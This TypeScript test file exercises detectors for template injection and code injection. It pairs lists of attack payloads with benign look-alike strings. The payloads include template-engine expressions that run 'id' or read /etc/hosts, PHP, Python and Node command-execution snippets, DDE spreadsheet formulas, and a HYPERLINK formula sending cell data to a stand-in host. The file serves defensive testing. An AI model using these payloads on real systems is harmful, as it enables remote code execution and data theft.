// biome-ignore-all lint/suspicious/noTemplateCurlyInString: what looks like a template is the matter here
import { codeDetector } from "../../src/detect/code/index.ts";
import { templateDetector } from "../../src/detect/template/index.ts";
import { holdSteps, holdTables, holdVariants } from "./finder-tables.ts";

const ATTACKS = [
  "{{9*9}}", "{{ 9 * 9 }}", "${9*9}", "#{9*9}", "<%= 9*9 %>", "@(9*9)", "%{9*9}", "*{9*9}", "{{9*'9'}}", "${{9*9}}", "a{{ 9-3 }}b", "{9*9}", "{{'a'.upper()}}", "{{ [].append }}",
  "{{ ''.__class__.__mro__ }}", "{{ config }}", "{{ self.__init__.__globals__ }}", "{{ request|attr('application') }}", "{{ cycler.__init__ }}", "{{ ['id']|filter('system') }}", "{{ _self.env.getFilter('a') }}",
  "{% import os %}", "{% set x = 1 %}", "{% debug %}", "{% for x in ().__class__.__base__.__subclasses__() %}", "<#assign a=\"freemarker.template.utility.Execute\"?new()>", "${\"freemarker.template.utility.Execute\"?new()(\"id\")}", "[#assign a = 1]",
  "${T(java.lang.Runtime).getRuntime().exec('id')}", "#{T(java.lang.System).getenv()}", "%{(#_memberAccess['a']=true)}", "%{#context['x']}", "${''.getClass().forName('a')}", "#set($a=$class.inspect('x'))", "*{T(org.apache.commons.io.IOUtils).toString(1)}",
  "<%= system('id') %>", "<%= `id` %>".replace("`id`", "IO.popen('id').read"), "<%= File.open('/etc/hosts').read %>", "{php}echo 1;{/php}", "{system('id')}", "{$smarty.version}", "{{constructor.constructor('return 1')()}}", "{{= process.mainModule.require('fs') }}",
  "{{#with \"a\" as |b|}}{{lookup b.sub \"constructor\"}}{{this.push \"return require('fs')\"}}{{/with}}",  "{{dump(app)}}", "{{1337|add:1}}",
  "${request.getParameter('y')}", "${applicationContext.getBean('y')}", "#{systemProperties['user.home']}", "{{.Run \"id\"}}", "${.version}", "<#list .data_model?keys as k>", "{{constant('PHP_OS')}}", "{fetch file=\"/etc/hosts\"}", "<%eval request(\"y\")%>",
  "<%= ENV['KEY'] %>", "{{$y := .Env}}", "{{joiner}}",
]; // biome-ignore format: a list of words

const BENIGN = [
  "{{ user.name }}", "{{name}}", "{{ message | upper }}", "{{ items.length + 1 }}", "{{ $t('greeting') }}", "{% for item in items %}", "{% if user %}hello{% endif %}", "${name}", "${a + b}", "${price * quantity}", "#{name}", "`Hello ${user.first} ${user.last}`",
  "<%= name %>", "{name}", "{ a: 1 }", "{\"a\": {\"b\": [1, 2]}}", "body { color: #fff; }", "@media (max-width: 600px) { a { b: c } }", "user@example.com (9*9)", "#hashtag {x}", "[[wiki link]]", "[#123]", "[=]", "9*9", "(9*9)", "{1} + {1}", "{0}, {1} and {2}", "f(x) = {x | x > 3}",
  "$5 + $6", "100%{off}", "@jane (see above)", "<# of items>", "a <% b", "#settings and #setup", "#set the table", "{x*y}", "안녕 {{이름}} 님", "{{ 제목 }}", "email me @ (work)", "C#{sharp}",
  "${el.style.getPropertyValue('x')}", "{{ .Values.name }}", "{fetch the ball}", "{{ app.user.name }}", "${application.name}",
  "{{ .Envelope }}", "<%= envelope %>", "{{ joiners }}",
]; // biome-ignore format: a list of words

holdTables(templateDetector, ATTACKS, BENIGN);

holdVariants(templateDetector, ATTACKS.filter((row) => !/^(?:@|\{\d|\{php|\{sys|\{\$|.*Access)/.test(row)), [
  ["behind words", (text) => `Hello dear ${text}`],
  ["before words", (text) => `${text} and so on`],
  ["in a text in quotes", (text) => `'${text}'`],
]); // biome-ignore format: one call

holdSteps(
  templateDetector,
  ["{", "{{", "${", "#{", "<%", "<#", "[[", "[#", "#set", "@(", "{%", "{{ a", "{$", "{{9*", "{{'", "${T(", "{{[]|", "}}{{", "a{"],
  1200,
);

const CODE_ATTACKS = [
  "phpinfo()", "system('id')", "';system('id');//", "\".system('id').\"", "eval($_GET['a'])", "<?php echo 1; ?>", "<?=`id`?>", "${@print(1)}", "${phpinfo()}", "shell_exec('id')", "assert('phpinfo()')", "file_put_contents('a.php','b')", "call_user_func('system','id')", "('system')('id')",
  "__import__('os').system('id')", "os.system('id')", "';import os;os.system('id')#", "subprocess.check_output(['id'])", "require('child_process').execSync('id')", "process.mainModule.require('fs')", "global.process.mainModule.constructor._load('fs')", "Runtime.getRuntime().exec('id')", "java.lang.Runtime.getRuntime()", "new java.lang.ProcessBuilder('id')",
  "Kernel.exec('id')", "IO.popen('id').read", "@{[system 'id']}", "Server.CreateObject(\"WScript.Shell\")", "''.__class__.__mro__[1].__subclasses__()", "Ev al(\"Ex\"&\"e\"&\"cute(1)\")", "exec('id')", "base64_decode('aWQ=')", "getattr('', 'x')",
  "=cmd|' /C notepad'!B1", "@SUM(2+2)*cmd|' /C calc'!B1", "=DDE(\"cmd\";\"/C calc\";\"y\")", "=HYPERLINK(\"http://h.example/?y=\"&B1,\"see\")", "include 'http://h.example/y';", "new java.io.File('/etc/hosts')", "\"sys\".\"tem\"('ls')", "(sy.(st).em)(ls);",
  "/Index/\\think\\app/invokefunction",
  "require(\"http\").get(\"http://h.example\")", "new Function('return this')()", "@System.IO.File.ReadAllText(\"c:/y\")",
]; // biome-ignore format: a list of words

const CODE_BENIGN = [
  "the system (see above)", "our exec (CEO)", "f(x)", "system()", "eval", "pattern.exec('x')", "/a/.exec(\"b\")", "db.system.users", "call system(s) of record", "to assert (strongly)", "an operating system ('OS')", "import osmosis", "os.path.join('a')", "we print_r and var_dump", "$500 (USD)", "fopen is a function", "console.log('a')",
  "use `os.system('x')` with care", "In Python, os.system('ls') runs a command", "see child_process.exec('x') in the manual", "_underscore_ (text)", "array_map and friends", "a < b ? c : d", "new Date()", "require('./a')", "import x from 'y'; f(x)", "popen(3)", "평가(eval) 함수는 위험하다", "(system) (id)", "execute (the order)", "process (main)", "my_function($x)",
  "=SUM(B1:B9)", "=HYPERLINK(\"https://example.com\",\"see\")", "- run cmd | findstr x", "include 'a.php' first", "Smith.\"Jones\" (1999)", "No.(1) (a)", "new java developers", "=IF(B1>5,\"yes\",\"no\")",
  "const a = require('fs').promises", "new Function (see below)", "@Systems.anna wrote (today)",
]; // biome-ignore format: a list of words

holdTables(codeDetector, CODE_ATTACKS, CODE_BENIGN);

holdSteps(
  codeDetector,
  ["(", "a(", "system(", ".a(", "((", ")(", "('a')(", "$_", "<?", "@", "__", "a.b.c.d(", "    (", "os.system('"],
  120,
);
